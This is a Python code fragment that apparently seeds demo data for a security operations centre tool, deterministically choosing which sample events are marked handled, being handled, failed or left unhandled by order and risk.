    status: str  # handling, handled or failed (which first passes through handling)
    note: str


def plan_event_statuses(events: Sequence[tuple[int, int]]) -> list[PlannedStatus]:
    """Which demo events to move out of Unhandled, from (id, risk) oldest first.

    The choice depends only on the events' order, not on their status, so a
    second run picks the same events (and finds them already moved). Older
    events are mostly handled, some recent ones are being handled, two have
    failed, and the newest stay Unhandled, as in a working SOC.
    """
    total = len(events)
    older, recent = events[: int(total * 0.6)], events[int(total * 0.6) : int(total * 0.85)]
    plan = [
        PlannedStatus(event_id, "handled", _HANDLED_NOTES[position % len(_HANDLED_NOTES)])
        for position, (event_id, _risk) in enumerate(older)
        if position % 4 != 3
    ]
    plan += [
        PlannedStatus(event_id, "handling", _HANDLING_NOTES[position % len(_HANDLING_NOTES)])
        for position, (event_id, _risk) in enumerate(recent)
        if position % 3 == 0
    ]
    # Handling fails where it is tried hardest: prefer High-risk events.
    others = [event for position, event in enumerate(recent) if position % 3 != 0]
    others.sort(key=lambda event: -event[1])
    plan += [PlannedStatus(event_id, "failed", _FAILED_NOTE) for event_id, _risk in others[:2]]
    return plan
